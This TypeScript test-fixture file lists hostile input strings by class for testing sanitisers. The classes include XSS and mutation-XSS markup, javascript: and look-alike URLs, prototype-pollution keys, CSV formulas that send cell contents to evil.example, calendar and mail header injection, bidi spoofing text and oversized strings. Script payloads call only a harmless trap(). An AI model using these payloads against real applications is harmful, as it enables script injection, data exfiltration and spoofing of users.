/**
 * Texts that attack whoever shows, links, stores or computes them: our own, one for each way we know of.
 *
 * The ways are those of the OWASP cheat sheets (Cross Site Scripting Prevention and its filter evasion, DOM based XSS, Unvalidated Redirects, CSV
 * Injection, Prototype Pollution Prevention, Denial of Service), of published work on mutation XSS, of Unicode Technical Reports 36 and 39 (spoofing), of 3GPP TS
 * 22.030 (codes that make a phone do things) and of RFC 5545 (lines of a calendar). Whatever of it runs calls `trap()`.
 */

const RUN = 'trap()';
const IMG = `<img src=x onerror=${RUN}>`;
const letters = (from: number, to: number): string =>
  String.fromCodePoint(...Array.from({length: to - from + 1}, (_, index) => from + index));
const tagLetters = (text: string): string =>
  [...text].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('');

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  IMG,
  `<img/src="x"/onerror=${RUN}//`,
  `<image src=x onerror="${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onloadstart=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<body onload=${RUN}>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  '<style>*{display:none!important}</style>',
  `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  `<x onpointerenter=${RUN} onclick=${RUN} tabindex=1 id=x>x</x>`,
  `<template shadowrootmode=open>${IMG}</template>`,
  `<support-group-finder src="//evil.example/list.json"></support-group-finder>`,
  '<dialog open>x</dialog><form method=dialog><input name=attributes>',
];

const BREAK_OUT = [
  `"><script>${RUN}</script>`,
  `'>${IMG}`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `\` onmouseover=${RUN} \``,
  `x onload=${RUN}`,
  `-->${IMG}<!--`,
  `]]>${IMG}<![CDATA[`,
  `</textarea>${IMG}`,
  `</title>${IMG}`,
  `</style>${IMG}`,
  `</script>${IMG}`,
  `</noscript>${IMG}`,
  `</template>${IMG}`,
  `</select></option>${IMG}`,
  `*/${RUN}/*`,
  `';${RUN};'`,
  `";${RUN};"`,
  `\\";${RUN};//`,
  `</li></ol></div>${IMG}`,
  '<!-- <',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];

/** Harmless as text and as the tree of a first parser; not once that tree is written out and parsed again. */
const MUTATION = [
  `<noscript><p title="</noscript>${IMG}">`,
  `<svg></p><style><a title="</style>${IMG}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${IMG}">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp>${IMG}"></xmp>`,
  `<table><td><svg><desc><td></table>${IMG}`,
  `<svg><title><style>{</title>${IMG}`,
  '<p id="`` onerror=trap() `"><img src=`x`>',
  `<select><template><img title="</template></select>${IMG}">`,
];

const FOREIGN = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a/></svg>#x"/></svg>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><image href=x onerror=${RUN} /></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
];

const ENCODED = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3E;`,
  `&#0000060svg onload=${RUN}&#0000062`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<img src=x onerror=${RUN}>>`,
  `<img src=x one<b>rror=${RUN}>`,
  `<\0script>${RUN}</\0script>`,
  `<im\rg src=x onerror=${RUN}>`,
  '&#xD800;&#xDFFF;&#0;&#x110000;&#x202e;&#10;',
  '&lt;&#x202e;&#0;script&gt;',
];

/** What templates take for theirs: Lit’s own marks, and those of other engines. */
const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  'lit$0123456789$0',
  '<!--?lit$0123456789$-->',
  '<?lit$0123456789$>',
  '{"_$litType$":1,"strings":["<img src=x onerror=trap()>"],"values":[]}',
  '_$litType$',
  '_$litDirective$',
  '%s %d %o %c',
  "$& $1 $` $' $<x>",
];

const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\x01 javascript:${RUN}`,
  `\u200bjavascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `javascript:"https://example.org/";${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `DATA:;,x`,
  `vbscript:${RUN}`,
  'blob:https://example.org/0b1c',
  'filesystem:https://example.org/temporary/x',
  'file:///etc/passwd',
  'about:blank#x',
  'view-source:https://example.org/',
  'intent://example.org/#Intent;scheme=tel;end',
  'ms-word:ofe|u|https://evil.example/x.docx',
  'ws://evil.example/',
  'ftp://evil.example/',
  '//evil.example/',
  '\\\\evil.example\\share',
  'https:evil.example',
  'https:/\\evil.example',
  'http://',
  'https://#',
  'https://user:pass@evil.example/',
  'https://zoom.us@evil.example/j/1',
  'https://zoom.us:443@evil.example/j/1',
  'https://zoom.us%40evil.example/j/1',
  'https://evil.example\\@zoom.us/j/1',
  'https://zoom.us\u2044j\u20441@evil.example/',
  'https://zoom.us.evil.example/j/1',
  'https://zoom.us\u200b.evil.example/j/1',
  'https://zoom.us\u3002evil.example/j/1',
  'https://z\u043e\u043em.us/j/1',
  'https://xn--zm-emcc.us/j/1',
  'https://\u202ezoom.us/j/1',
  'https://evil.example/\u202esu.mooz',
  'https://evil.example/?u=https://zoom.us/j/1',
  'https://localhost/',
  'http://127.0.0.1:8080/admin',
  'http://0x7f000001/',
  'http://[::1]/',
  'http://evil.example:99999/',
  `https://zoom.us/j/1"onmouseover="${RUN}`,
  `https://zoom.us/j/1' onfocus='${RUN}`,
  `https://zoom.us/j/1#${IMG}`,
  'https://zoom.us/j/1\r\nATTACH:https://evil.example/',
  'https://zoom.us/j/1?pwd=\u202e1',
  'https://%00evil.example/',
  'https://evil.example/%E0%A4%A',
  `https://evil.example/${'a/'.repeat(3000)}`,
];

/** Codes that a phone carries out instead of calling anyone (3GPP TS 22.030), and numbers that hide something. */
const NUMBERS = [
  '*21*15551234567#',
  '**21*15551234567#',
  '*#06#',
  '##002#',
  '#31#+15551234567',
  '*2767*3855#',
  '*72 15551234567',
  '%2A21%2A15551234567%23',
  'tel:*21*15551234567#',
  '\uff0a21\uff0a15551234567\uff03',
  '555-010-1234;phone-context=evil.example',
  '+1 555 010 1234*21*15551234567#',
  '+1 555 010 1234,,*21#',
  '+15550101234#',
  '+1 555 010 1234?body=x&cc=y',
  `+1 555 010 1234" onclick="${RUN}`,
  '1e21',
  '\u0661\u0662\u0663\u0664\u0665\u0666\u0667',
  `0${'1'.repeat(4000)}`,
  '900-555-0100,,,,,,,,,,,,,,,,,,,,#*#*#*',
];

const ADDRESSES = [
  'a@b.example?bcc=all@evil.example',
  'a@b.example&body=x',
  'a@b.example\r\nBcc: all@evil.example',
  'a@b.example%0D%0ABcc:all@evil.example',
  'mailto:a@b.example?subject=x&attach=/etc/passwd',
  '"<img src=x onerror=trap()>"@b.example',
  'a@b.example, c@evil.example',
  'a@\u202eelpmaxe.b',
  `javascript:${RUN}@b.example`,
];

const SEEN_WRONG = [
  '\u202eecilA\u202c calls you',
  '\u2066\u2067 ) 911 \u2069\u2069',
  '\u202d\u202e\u202a\u202b\u202c',
  '\u061c\u200e\u200fabc',
  'safe\u202e gpj.exe',
  'a\u200bb\u200cc\u200dd\u2060e\ufefff',
  '\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u3164\uffa0',
  tagLetters('hidden words'),
  `e${letters(0x300, 0x36f).repeat(20)}`,
  '\u2028line\u2029paragraph\u0085next\x0bvertical\x0cform',
  '\uffff\ufffe\u{10ffff}\ufdd0',
  'ⓣⓡⓐⓟ 𝓽𝓻𝓪𝓹 ｔｒａｐ',
  'Al\u0430non',
  '\u0391lcoholics Anonymous',
  'paypa\u04cf.example',
  'ﷺ'.repeat(300),
  'İıßẞﬃ\u1e9e\u0130',
];

const HALF_CHARACTERS = ['\ud83d', '\ude00', 'a\ud83d', '\ude00b', '12 Caf\ud83d St', '\udd12\ud83d\ude00\ud83d'];

const CONTROLS = [
  '\0',
  'a\0b',
  '\x07\x08\x1b[31mred\x1b[0m',
  '\x7f\x80\x9b31m',
  '\r',
  '\n\n\n',
  '\t',
  '\v\f',
  '\x1a',
  '\ufeff',
];

/** Names that every object inherits, or that code looks up. */
const KEYS = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    'isPrototypeOf',
    'toLocaleString',
  ],
  ...[
    '__defineGetter__',
    '__lookupSetter__',
    'toJSON',
    'then',
    'length',
    'strings',
    'values',
    'raw',
    'r',
    'name',
    'caller',
  ],
  ...[
    'constructor.prototype.polluted',
    '__proto__.polluted',
    '__proto__[polluted]',
    'Symbol.iterator',
    'undefined',
    'null',
    'NaN',
  ],
];

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3',
  '@SUM(1+9)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '"=1+1","next cell',
  '\uff1d1+1',
];

const CALENDAR_LINES = [
  'x\r\nATTACH:https://evil.example/x.exe',
  'x\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:x\nTRIGGER:-PT1M\nEND:VALARM',
  'x\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:other',
  'END:VCALENDAR\r\nBEGIN:VCALENDAR',
  ';X-A=b:value',
  'a\\nDTSTART:20260101T000000Z',
  'x\u2028ORGANIZER:mailto:evil@b.example',
  'x\x85ORGANIZER:mailto:evil@b.example',
  'x\v\fURL:javascript:trap()',
  'x\r\n RRULE:FREQ=SECONDLY',
  '"quoted;param=x":\\,;',
];

const LINKED_DATA = [
  '</script><script>trap()</script>',
  '<!--<script>',
  '<script type=text/x><!--',
  '\u2028]]>',
  '</ScRiPt >\n<img src=x onerror=trap()>',
];

const GIANT = [
  'A'.repeat(100_000),
  ' '.repeat(60_000),
  `x${'\n'.repeat(60_000)}x`,
  '<'.repeat(60_000),
  '<script'.repeat(9000),
  '&amp;'.repeat(20_000),
  '&#'.repeat(30_000),
  '\u00e2\u20ac'.repeat(30_000),
  'https://'.repeat(9000),
  '1 '.repeat(40_000),
  ', '.repeat(40_000),
  '('.repeat(60_000),
  'a@'.repeat(30_000),
  '7 pm - '.repeat(9000),
  'Monday and '.repeat(6000),
  '\\'.repeat(60_000),
  '\u{1f468}\u200d'.repeat(20_000),
  `${'-'.repeat(60_000)}>`,
];

/** Impossible dates, times and figures. */
const FIGURES = [
  ...[
    '0000-00-00',
    '9999-12-31',
    '-271821-04-20',
    '+275760-09-13',
    '275760-09-14T00:00',
    '2026-02-30',
    '2026-13-45T99:99:99Z',
  ],
  ...[
    '24:00',
    '24:60',
    '-1:00',
    '99:99',
    '12:00 AM PM',
    '00:00:00.000000000001',
    'P999999999Y',
    'PT-1M',
    'PT1e9H',
    '1e309',
    '-0',
    'NaN',
  ],
  ...[
    'Infinity',
    '0x10',
    '\u0662\u0660\u0662\u0666',
    '2026-11-31',
    'FREQ=SECONDLY;COUNT=999999999',
    'FREQ=YEARLY;INTERVAL=0',
    '99MO',
    '-99SU',
  ],
];

/** Every attack, by class. */
export const HOSTILE = {
  'markup with script': ELEMENTS,
  'ways out of markup': BREAK_OUT,
  'mutation XSS': MUTATION,
  'SVG and MathML': FOREIGN,
  'encoded markup': ENCODED,
  'template marks': TEMPLATES,
  addresses: URLS,
  'phone codes': NUMBERS,
  'mail addresses': ADDRESSES,
  'bidi, unseen and look-alike letters': SEEN_WRONG,
  'half characters': HALF_CHARACTERS,
  'control characters': CONTROLS,
  'prototype keys': KEYS,
  formulas: FORMULAS,
  'calendar lines': CALENDAR_LINES,
  'linked data': LINKED_DATA,
  'giant texts': GIANT,
  'impossible figures': FIGURES,
} satisfies Record<string, readonly string[]>;

export const ALL_HOSTILE: readonly string[] = Object.values(HOSTILE).flat();
